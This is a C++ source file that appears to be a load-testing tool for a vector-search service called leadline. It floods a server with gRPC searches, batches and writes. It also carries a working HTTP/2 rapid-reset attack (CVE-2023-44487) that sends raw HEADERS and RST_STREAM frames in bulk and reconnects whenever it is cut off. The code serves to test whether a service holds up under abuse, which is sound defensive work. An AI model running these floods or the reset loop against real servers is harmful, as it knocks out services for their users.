/// One client that means no good, to measure beside it how others are served: leadline_service_load
/// with --rate and --no-recall, alone and beside this, each with a token of its own. Prints one
/// JSON line: how its calls ended, by the number of gRPC's code.
///
///   leadline_service_hostile flood --address 127.0.0.1:7701 --queries Q.fvecs --truth T.ivecs
///
/// What it does, on as many streams as it is told and as fast as it can:
///   flood    searches, each sent again as soon as it ended, refused or not
///   batches  searches for --rows queries a call
///   writes   batches of --rows records
///   resets   calls taken back as soon as they were sent (CVE-2023-44487)

#include <chrono>
#include <cstdio>
#include <map>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include <CLI/CLI.hpp>
#include <absl/synchronization/mutex.h>
#include <google/protobuf/message.h>
#include <grpcpp/generic/generic_stub.h>
#include <grpcpp/grpcpp.h>

#include "leadline/v1/records.pb.h"
#include "leadline/v1/search.pb.h"
#include "raw_http2.h"
#include "workload.h"

namespace leadline::bench {
namespace {

/// The error code of HTTP/2 for calls that are taken back.
constexpr uint64_t kCancel = 8;

struct Arguments {
  std::string what;
  std::string address;
  std::string token;
  std::string collection = "bench";
  std::string queries;
  std::string truth;
  size_t connections = 1;
  size_t streams = 128;
  uint32_t rows = 4'096;
  double seconds = 5;
};

struct Request {
  std::string path;
  grpc::ByteBuffer bytes;
};

Request Packed(std::string path, const google::protobuf::Message& message) {
  const grpc::Slice slice(message.SerializeAsString());
  return {std::move(path), grpc::ByteBuffer(&slice, 1)};
}

std::string Bytes(VectorView query) {
  return {reinterpret_cast<const char*>(query.data()), query.size() * sizeof(float)};
}

Request SearchOf(const Arguments& args, const Workload& work) {
  v1::SearchRequest request;
  request.set_collection(args.collection);
  request.set_vector_f32(Bytes(work.query(0)));
  return Packed("/leadline.v1.Search/Search", request);
}

Request BatchOf(const Arguments& args, const Workload& work) {
  v1::SearchBatchRequest request;
  request.set_collection(args.collection);
  request.set_matrix_dim(static_cast<uint32_t>(work.query(0).size()));
  for (uint32_t i = 0; i < args.rows; ++i) {
    request.mutable_matrix_f32()->append(Bytes(work.query(i)));
  }
  return Packed("/leadline.v1.Search/SearchBatch", request);
}

Request WritesOf(const Arguments& args, const Workload& work) {
  v1::UpsertRequest request;
  request.set_collection(args.collection);
  for (uint32_t i = 0; i < args.rows; ++i) {
    v1::Record* const record = request.add_records();
    record->set_id("hostile-" + std::to_string(i));
    record->set_vector_f32(Bytes(work.query(i)));
  }
  return Packed("/leadline.v1.Records/Upsert", request);
}

Request RequestOf(const Arguments& args, const Workload& work) {
  if (args.what == "batches") {
    return BatchOf(args, work);
  }
  if (args.what == "writes") {
    return WritesOf(args, work);
  }
  return SearchOf(args, work);
}

/// One stream's worth of calls, one after the other; the queue gives it back when a call ended.
class Stream {
 public:
  Stream(const Arguments& args, const Request& request,
         const std::shared_ptr<grpc::Channel>& channel, grpc::CompletionQueue* queue)
      : args_(args), request_(request), stub_(channel), queue_(queue) {}

  void Begin() {
    context_ = std::make_unique<grpc::ClientContext>();
    if (!args_.token.empty()) {
      context_->AddMetadata("authorization", "Bearer " + args_.token);
    }
    call_ = stub_.PrepareUnaryCall(context_.get(), request_.path, request_.bytes, queue_);
    call_->StartCall();
    call_->Finish(&answer_, &status_, this);
  }

  /// How the call ended.
  [[nodiscard]] grpc::StatusCode End() {
    answer_.Clear();
    return status_.error_code();
  }

 private:
  const Arguments& args_;
  const Request& request_;
  grpc::GenericStub stub_;
  grpc::CompletionQueue* const queue_;
  std::unique_ptr<grpc::ClientContext> context_;
  std::unique_ptr<grpc::GenericClientAsyncResponseReader> call_;
  grpc::ByteBuffer answer_;
  grpc::Status status_;
};

std::shared_ptr<grpc::Channel> NewConnection(const std::string& address) {
  grpc::ChannelArguments arguments;
  arguments.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
  arguments.SetInt(GRPC_ARG_MAX_RECONNECT_BACKOFF_MS, 100);  // it does not give up
  arguments.SetMaxReceiveMessageSize(16 << 20);
  return grpc::CreateCustomChannel(address, grpc::InsecureChannelCredentials(), arguments);
}

/// Calls by how they ended, until the time is over; those that are open by then are left.
std::map<int, size_t> Attack(const Arguments& args, const Request& request) {
  grpc::CompletionQueue queue;
  std::vector<std::unique_ptr<Stream>> streams;
  for (size_t i = 0; i < args.connections; ++i) {
    const auto channel = NewConnection(args.address);
    for (size_t s = 0; s < args.streams; ++s) {
      streams.push_back(std::make_unique<Stream>(args, request, channel, &queue));
      streams.back()->Begin();
    }
  }
  std::map<int, size_t> ends;
  const auto end = std::chrono::system_clock::now() + std::chrono::duration<double>(args.seconds);
  const auto deadline = std::chrono::time_point_cast<std::chrono::system_clock::duration>(end);
  void* tag = nullptr;
  bool ok = false;
  while (queue.AsyncNext(&tag, &ok, deadline) == grpc::CompletionQueue::GOT_EVENT) {
    if (tag != nullptr) {
      auto* const stream = static_cast<Stream*>(tag);
      ++ends[stream->End()];
      stream->Begin();
    }
  }
  return ends;
}

/// Opens calls and takes them back, frame for frame: gRPC's client would not send what it takes
/// back so soon. Comes again when it is cut off.
std::map<int, size_t> ResetOnAndOn(const Arguments& args) {
  namespace http2 = rpc::http2;
  constexpr int kCallsASend = 100;
  const int port = std::stoi(args.address.substr(args.address.rfind(':') + 1));
  const std::string fields = http2::CallFields(
      "/leadline.v1.Search/Search", http2::Field("authorization", "Bearer " + args.token));
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(args.seconds);
  std::map<int, size_t> ends;
  while (std::chrono::steady_clock::now() < end) {
    http2::Peer peer(port);
    bool open = peer.Begin();
    for (uint32_t stream = 1; open && std::chrono::steady_clock::now() < end;) {
      std::string frames;
      for (int i = 0; i < kCallsASend; ++i, stream += 2) {
        frames += http2::Frame(http2::kHeaders, http2::kEndHeaders, stream, fields);
        frames += http2::Frame(http2::kReset, 0, stream, http2::BigEndian(kCancel, 4));
      }
      open = peer.Send(frames);
      peer.Received();
      ends[grpc::StatusCode::CANCELLED] += kCallsASend;
    }
  }
  return ends;
}

int Main(int argc, char** argv) {
  absl::SetMutexDeadlockDetectionMode(absl::OnDeadlockCycle::kIgnore);
  Arguments args;
  CLI::App app("Does a running leadline serve what a hostile client may do.");
  app.add_option("WHAT", args.what, "flood, batches, writes or resets")
      ->required()
      ->check(CLI::IsMember({"flood", "batches", "writes", "resets"}));
  app.add_option("--address", args.address, "of a running server")->required();
  app.add_option("--token", args.token, "sent with every call");
  app.add_option("--collection", args.collection, "what is asked for");
  app.add_option("--queries", args.queries, ".fvecs")->required();
  app.add_option("--truth", args.truth, "exact neighbours of the queries, .ivecs")->required();
  app.add_option("--connections", args.connections, "of its own")->check(CLI::Range(1, 1024));
  app.add_option("--streams", args.streams, "of each connection")->check(CLI::Range(1, 4096));
  app.add_option("--rows", args.rows, "queries or records a call")->check(CLI::Range(1, 4096));
  app.add_option("--seconds", args.seconds, "of this")->check(CLI::PositiveNumber);
  CLI11_PARSE(app, argc, argv);
  const Workload work(args.queries, args.truth);
  const std::map<int, size_t> ends =
      args.what == "resets" ? ResetOnAndOn(args) : Attack(args, RequestOf(args, work));
  std::printf("{\"what\": \"%s\", \"ends\": {", args.what.c_str());
  const char* comma = "";
  for (const auto& [code, count] : ends) {
    std::printf("%s\"%d\": %zu", comma, code, count);
    comma = ", ";
  }
  std::printf("}}\n");
  std::fflush(stdout);
  std::_Exit(0);  // calls that are open end with the process, as a client does that dies
}

}  // namespace
}  // namespace leadline::bench

int main(int argc, char** argv) {
  return leadline::bench::Main(argc, argv);
}
